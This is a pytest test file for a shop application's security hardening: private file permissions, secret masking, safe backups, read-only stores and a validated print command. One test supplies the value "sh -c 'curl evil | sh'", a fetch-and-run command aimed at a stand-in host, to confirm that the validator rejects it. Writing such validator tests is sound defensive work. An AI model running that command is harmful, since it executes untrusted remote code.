"""Issue 11, items 36/39/42/45/46/47/48: private files, safe backups, no accidental stores, read-only
stores, masked secrets, a print command that is shown before it runs, checked emails, audited stock."""

from __future__ import annotations

import os
import sqlite3
import stat
import sys
from pathlib import Path

import pytest
from sqlmodel import Session, col, select

from shoptui import config, db, errorlog
from shoptui.config import Actor, mask_argv, mask_url
from shoptui.errors import InvalidInput, NotAllowed, SchemaOutOfDate, StoreUnavailable
from shoptui.models.store import AuditEntry, StoreSetting
from shoptui.services.inventory.changes import adjust, restock, transfer
from shoptui.services.inventory.ledger import fulfil, reserve, restock_return, sell
from shoptui.services.inventory.locations import add_location
from shoptui.services.messaging import outbox as messaging
from shoptui.services.orders import documents
from shoptui.services.shop import settings
from tests.services.inventory_helpers import make_variant
from tests.store_files import copy_store

ACTOR = Actor("owner", "test")


def _mode(path: Path) -> int:
    return stat.S_IMODE(path.stat().st_mode)


# ---------------------------------------------------------------- 36: private store files and backups


@pytest.mark.sqlite_only(reason="file modes of a SQLite store")
def test_a_new_store_its_wal_files_and_a_backup_are_the_owners_only(tmp_path: Path) -> None:
    old = os.umask(0o022)  # the usual umask, which made 644 files before
    try:
        url = f"sqlite:///{tmp_path / 'shop.db'}"
        db.upgrade(url)
        with db.transaction(url) as session:
            settings.set_value(session=session, actor=ACTOR, key="name", raw="Lucky Cat")
        copy = db.backup_store(url, tmp_path / "copy.db")
    finally:
        os.umask(old)
    for name in ("shop.db", "shop.db-wal", "shop.db-shm", "shop.db.lock"):
        assert _mode(tmp_path / name) == 0o600, name
    assert _mode(copy) == 0o600
    db.dispose_all()


@pytest.mark.sqlite_only(reason="file modes of a SQLite store")
def test_an_existing_world_readable_store_is_tightened_when_opened_for_writing(store: str, store_path: Path) -> None:
    os.chmod(store_path, 0o644)
    with db.read_session(store):
        pass
    assert _mode(store_path) == 0o644  # reading changes nothing
    with db.transaction(store) as session:
        settings.set_value(session=session, actor=ACTOR, key="name", raw="Lucky Cat")
    assert _mode(store_path) == 0o600


def test_the_default_stores_folder_is_made_0700(monkeypatch: pytest.MonkeyPatch) -> None:
    db.upgrade(None, backup=False)
    assert _mode(config.data_dir()) == 0o700
    assert _mode(config.data_dir() / "shop.db") == 0o600
    db.dispose_all()


# ---------------------------------------------------------------- 36/48: secrets outside the store, masked


def test_secrets_come_from_the_environment_or_an_owner_only_file(store: str, tmp_path: Path,
                                                               monkeypatch: pytest.MonkeyPatch) -> None:
    secrets = tmp_path / "secrets.toml"
    secrets.write_text('smtp_password = "from-file"\n[sms_headers]\nAuthorization = "Bearer t0k"\n', encoding="utf-8")
    os.chmod(secrets, 0o600)
    monkeypatch.setenv("SHOPTUI_SECRETS_FILE", str(secrets))
    with db.read_session(store) as session:
        values = messaging._settings(session)
        assert values["smtp_password"] == "from-file"
        assert values["sms_headers"] == {"Authorization": "Bearer t0k"}
        assert settings.secret_status(session=session, key="smtp_password") == "set"
        monkeypatch.setenv("SHOPTUI_SMTP_PASSWORD", "from-env")
        assert messaging._settings(session)["smtp_password"] == "from-env"
        monkeypatch.delenv("SHOPTUI_SMTP_PASSWORD")
        os.chmod(secrets, 0o644)
        with pytest.raises(InvalidInput, match=r"may be read by other users \(mode 644\).*chmod 600"):
            messaging._settings(session)
        assert settings.secret_status(session=session, key="smtp_password").startswith("not set (The secrets file")


def test_a_secret_is_refused_by_settings_set_and_a_stored_one_can_be_cleared(store: str) -> None:
    with db.transaction(store) as session, pytest.raises(NotAllowed, match="SHOPTUI_SMTP_PASSWORD"):
        settings.set_value(session=session, actor=ACTOR, key="smtp_password", raw="hunter2")
    with db.transaction(store) as session:  # what an older shoptui kept
        session.add(StoreSetting(key="smtp_password", value="hunter2"))
    with db.read_session(store) as session:
        assert settings.get_all(session=session)["smtp_password"] == ""
        assert settings.get(session=session, key="smtp_password") == ""
        assert "kept in the store by an older shoptui" in settings.secret_status(session=session, key="smtp_password")
    with db.transaction(store) as session:
        settings.set_value(session=session, actor=ACTOR, key="smtp_password", raw="")
    with db.read_session(store) as session:
        assert session.get(StoreSetting, "smtp_password") is None
        entries = [(e.summary, e.before, e.after) for e in session.exec(select(AuditEntry))]
    assert [(before, after) for _, before, after in entries] == [({"value": "set"}, {"value": "not set"})]
    assert "hunter2" not in str(entries)


def test_url_credentials_are_masked_when_shown_and_audited(store: str) -> None:
    with db.transaction(store) as session:
        settings.set_value(session=session, actor=ACTOR, key="sms_gateway_url", raw="https://shop:pa55@sms.example.com/send")
        with pytest.raises(InvalidInput, match="masked"):
            settings.set_value(session=session, actor=ACTOR, key="sms_gateway_url", raw="https://shop:***@sms.example.com/s")
    with db.read_session(store) as session:
        value = settings.get(session=session, key="sms_gateway_url")
        after = session.exec(select(AuditEntry)).one().after
    assert value == "https://shop:pa55@sms.example.com/send"  # the sender still needs it
    assert settings.shown("sms_gateway_url", value) == "https://shop:***@sms.example.com/send"
    assert after == {"value": "https://shop:***@sms.example.com/send"}
    transport = messaging.SmsGatewayTransport(messaging.SmsConfig(url=value, headers={}, sender="", timeout=1))
    assert "pa55" not in transport.where and "shop" not in transport.where


def test_one_helper_masks_passwords_in_urls_and_command_lines() -> None:
    assert mask_url("postgresql+psycopg://bob:s3cr%40t@db:5432/shop") == "postgresql+psycopg://bob:***@db:5432/shop"
    assert mask_url("see https://tok3n@sms.example.com/x") == "see https://***@sms.example.com/x"
    assert mask_url("sqlite:////tmp/shop.db") == "sqlite:////tmp/shop.db"
    argv = ["shoptui", "--db", "postgresql://u:pw1@h/d", "settings", "set", "smtp_password", "pw2",
            "--password", "pw3", "--api-key=pw4", "--token=pw5"]
    masked = " ".join(mask_argv(argv))
    assert not any(f"pw{n}" in masked for n in range(1, 6)), masked
    assert masked.startswith("shoptui --db postgresql://u:***@h/d settings set smtp_password ***")


# ---------------------------------------------------------------- 45: the error log


def test_the_error_log_masks_secrets_and_is_private(tmp_path: Path) -> None:
    try:
        raise RuntimeError("could not connect to postgresql://bob:hunter2@db/shop")
    except RuntimeError as exc:
        header = errorlog.masked_command_line(["shoptui", "--db", "postgresql://bob:hunter2@db/shop",
                                               "settings", "set", "smtp_password", "letmein"])
        path = Path(errorlog.write(header, exc))
    text = path.read_text(encoding="utf-8")
    assert "hunter2" not in text and "letmein" not in text and "bob:***@db" in text
    assert _mode(path) == 0o600 and _mode(path.parent) == 0o700


# ---------------------------------------------------------------- 39: safe backups, no accidental stores


@pytest.mark.sqlite_only(reason="a missing or empty store file")
def test_a_missing_or_empty_store_is_refused_and_not_created(tmp_path: Path) -> None:
    missing, empty = tmp_path / "typo.db", tmp_path / "empty.db"
    empty.touch()
    with pytest.raises(StoreUnavailable, match=rf"There is no store at {missing}\. Create one with 'shoptui --db "
                       rf"{missing} db upgrade'"), db.read_session(f"sqlite:///{missing}"):
        pass
    with pytest.raises(StoreUnavailable, match=r"is empty \(0 bytes\)"), db.transaction(f"sqlite:///{empty}"):
        pass
    assert not missing.exists() and empty.stat().st_size == 0
    db.upgrade(f"sqlite:///{empty}")  # creating one is explicit
    with db.read_session(f"sqlite:///{empty}") as session:
        assert settings.get(session=session, key="currency") == "CNY"


@pytest.mark.sqlite_only(reason="the built-in online backup of a SQLite file")
def test_an_interrupted_backup_leaves_nothing_under_the_final_name(store: str, tmp_path: Path,
                                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    target = tmp_path / "copy.db"

    def cut(self: sqlite3.Connection, *args: object, **kwargs: object) -> None:
        raise KeyboardInterrupt

    monkeypatch.setattr(sqlite3, "connect", _connect_with_backup(cut))
    with pytest.raises(KeyboardInterrupt):
        db.backup_store(store, target)
    assert not target.exists() and list(tmp_path.glob(".copy.db*")) == []
    monkeypatch.undo()
    assert db.backup_store(store, target) == target


def _connect_with_backup(backup):  # type: ignore[no-untyped-def]
    real_connect = sqlite3.connect

    class Cut(sqlite3.Connection):
        pass

    Cut.backup = backup  # type: ignore[method-assign]

    def connect(*args, **kwargs):  # type: ignore[no-untyped-def]
        return real_connect(*args, factory=Cut, **kwargs)

    return connect


@pytest.mark.sqlite_only(reason="the built-in online backup of a SQLite file")
def test_a_backup_of_a_file_without_a_store_is_not_kept(tmp_path: Path) -> None:
    source = tmp_path / "plain.db"
    sqlite3.connect(source).execute("CREATE TABLE t (x)").connection.commit()
    with pytest.raises(StoreUnavailable, match="no schema revision"):
        db.backup_store(f"sqlite:///{source}", tmp_path / "copy.db")
    assert not (tmp_path / "copy.db").exists() and sorted(p.name for p in tmp_path.iterdir()) == ["plain.db"]


# ---------------------------------------------------------------- 42: read-only stores


def _read_only_copy(template: str, folder: Path) -> str:
    folder.mkdir()
    copy_store(template, folder, "shop.db")
    os.chmod(folder / "shop.db", 0o444)
    return f"sqlite:///{folder / 'shop.db'}"


@pytest.mark.sqlite_only(reason="a read-only store file")
def test_a_read_only_store_can_be_read_backed_up_and_not_written(template_store: str, tmp_path: Path,
                                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    url = _read_only_copy(template_store, tmp_path / "ro")
    if os.geteuid() == 0:  # root may write any file: pretend to be its owner, who may not
        monkeypatch.setattr(db, "_opens_read_only", lambda path: True)
    with db.read_session(url) as session:
        assert settings.get(session=session, key="currency") == "CNY"
        from shoptui.services.shop import checks

        assert all(result.ok for result in checks.run_checks(session=session))
    assert db.backup_store(url, tmp_path / "copy.db").exists()
    with pytest.raises(StoreUnavailable, match="is read-only, so nothing can be saved"), db.transaction(url) as session:
        settings.set_value(session=session, actor=ACTOR, key="name", raw="x")
    assert db.upgrade(url).backup is None  # up to date: nothing to do, nothing written


@pytest.mark.sqlite_only(reason="a store file in a read-only folder")
@pytest.mark.skipif(os.geteuid() == 0, reason="root may write read-only files and folders")
def test_a_store_in_a_read_only_folder_can_be_read(template_store: str, tmp_path: Path) -> None:
    url = _read_only_copy(template_store, tmp_path / "ro")
    os.chmod(tmp_path / "ro", 0o555)
    try:
        with db.read_session(url) as session:
            assert settings.get(session=session, key="currency") == "CNY"
    finally:
        os.chmod(tmp_path / "ro", 0o755)


# ---------------------------------------------------------------- 47: a store of a newer shoptui


def _newer(store_path: Path) -> str:
    con = sqlite3.connect(store_path)
    con.execute("UPDATE alembic_version SET version_num = '0099_future'")
    con.commit()
    con.close()
    return f"sqlite:///{store_path}"


@pytest.mark.sqlite_only(reason="tampers with the store file")
def test_a_newer_store_says_upgrade_shoptui_and_upgrade_writes_no_backup(store_path: Path) -> None:
    url = _newer(store_path)
    with pytest.raises(SchemaOutOfDate, match=r"written by a newer shoptui \(revision 0099_future\); upgrade shoptui"):
        with db.read_session(url):
            pass
    with pytest.raises(SchemaOutOfDate, match=r"newer shoptui \(revision 0099_future\)"):
        db.upgrade(url)
    assert sorted(p.name for p in store_path.parent.iterdir() if "before" in p.name or "backup" in p.name) == []


# ---------------------------------------------------------------- 46: print_command


def test_print_command_must_be_a_program_and_its_arguments(session: Session, tmp_path: Path) -> None:
    for raw, message in (("sh -c 'curl evil | sh'", "runs any command"), ("/usr/bin/env lp", "runs any command"),
                         ("no-such-printer -d x", "was not found"), ("lp 'unclosed", "cannot be read"),
                         (str(tmp_path), "was not found")):
        with pytest.raises(InvalidInput, match=message):
            settings.set_value(session=session, actor=ACTOR, key="print_command", raw=raw)
    command = f"{sys.executable} -c pass"
    settings.set_value(session=session, actor=ACTOR, key="print_command", raw=command)
    settings.set_value(session=session, actor=ACTOR, key="print_command", raw="")
    entries = session.exec(select(AuditEntry).order_by(col(AuditEntry.id))).all()
    assert [(e.before, e.after) for e in entries] == [({"value": ""}, {"value": command}),
                                                      ({"value": command}, {"value": ""})]


def test_a_print_command_runs_only_once_confirmed_from_this_account(tmp_path: Path) -> None:
    out = tmp_path / "printed.txt"
    command = f"{sys.executable} -c \"import sys; open(r'{out}', 'w').write(sys.stdin.read())\""
    assert not documents.print_command_approved(command)
    with pytest.raises(documents.PrintNotConfirmed, match="was not confirmed from this account"):
        documents.print_text("receipt", command)
    assert not out.exists()
    documents.print_text("receipt", command, confirmed=True)
    assert out.read_text() == "receipt" and documents.print_command_approved(command)
    documents.print_text("again", command)  # remembered for this command value
    assert out.read_text() == "again"
    with pytest.raises(documents.PrintNotConfirmed):
        documents.print_text("x", command + " --other")
    with pytest.raises(documents.OutputFailed, match="runs any command"):  # stored before it was checked
        documents.print_text("x", "sh -c 'echo hi'", confirmed=True)


# ---------------------------------------------------------------- 48: emails, stock audit


@pytest.mark.parametrize(("key", "raw"), [("email", "not-an-email"), ("email", "a@b"), ("smtp_from", "shop@"),
                                          ("smtp_from", "Shop <not an address>"), ("alert_emails", "a@b.cn, x..y@b.cn")])
def test_email_settings_are_checked(session: Session, key: str, raw: str) -> None:
    with pytest.raises(InvalidInput, match="is not an email address|is not a sender"):
        settings.set_value(session=session, actor=ACTOR, key=key, raw=raw)
    assert session.exec(select(AuditEntry)).all() == []


def test_good_email_settings_are_kept(session: Session) -> None:
    settings.set_value(session=session, actor=ACTOR, key="email", raw=" hello@luckycat.cn ")
    settings.set_value(session=session, actor=ACTOR, key="smtp_from", raw="Lucky Cat <hello@luckycat.cn>")
    settings.set_value(session=session, actor=ACTOR, key="email", raw="")
    assert settings.get(session=session, key="smtp_from") == "Lucky Cat <hello@luckycat.cn>"


def test_every_stock_movement_is_audited_with_on_hand_before_and_after(session: Session) -> None:
    vid = make_variant(session, "TEE-01", cost=250)
    back = add_location(session=session, actor=ACTOR, code="back", name="Back room")
    restock(session=session, actor=ACTOR, code="TEE-01", quantity=5)
    sell(session=session, actor=ACTOR, variant_id=vid, quantity=2, ref_kind=None, ref_id=None)
    adjust(session=session, actor=ACTOR, code="TEE-01", quantity=-1, reason="damaged")
    reserve(session=session, actor=ACTOR, variant_id=vid, quantity=1, ref_kind="order", ref_id="SO-1")
    fulfil(session=session, actor=ACTOR, variant_id=vid, quantity=1, ref_kind="order", ref_id="SO-1")
    restock_return(session=session, actor=ACTOR, variant_id=vid, quantity=1, ref_kind="order", ref_id="SO-1")
    transfer(session=session, actor=ACTOR, code="TEE-01", quantity=1, from_location="MAIN", to_location=back.code)
    entries = session.exec(select(AuditEntry).where(col(AuditEntry.action).startswith("stock."))
                           .order_by(col(AuditEntry.id))).all()
    found = [(e.action, e.before, e.after) for e in entries]
    assert found == [
        ("stock.restock", {"on_hand": 0}, {"on_hand": 5}),
        ("stock.sell", {"on_hand": 5}, {"on_hand": 3}),
        ("stock.adjust", {"on_hand": 3}, {"on_hand": 2}),
        ("stock.reserve", {"committed": 0}, {"committed": 1}),
        ("stock.fulfil", {"on_hand": 2, "committed": 1}, {"on_hand": 1, "committed": 0}),
        ("stock.return", {"on_hand": 1}, {"on_hand": 2}),
        ("stock.transfer", {"on_hand": {"MAIN": 2, "BACK": 0}}, {"on_hand": {"MAIN": 1, "BACK": 1}}),
    ], found
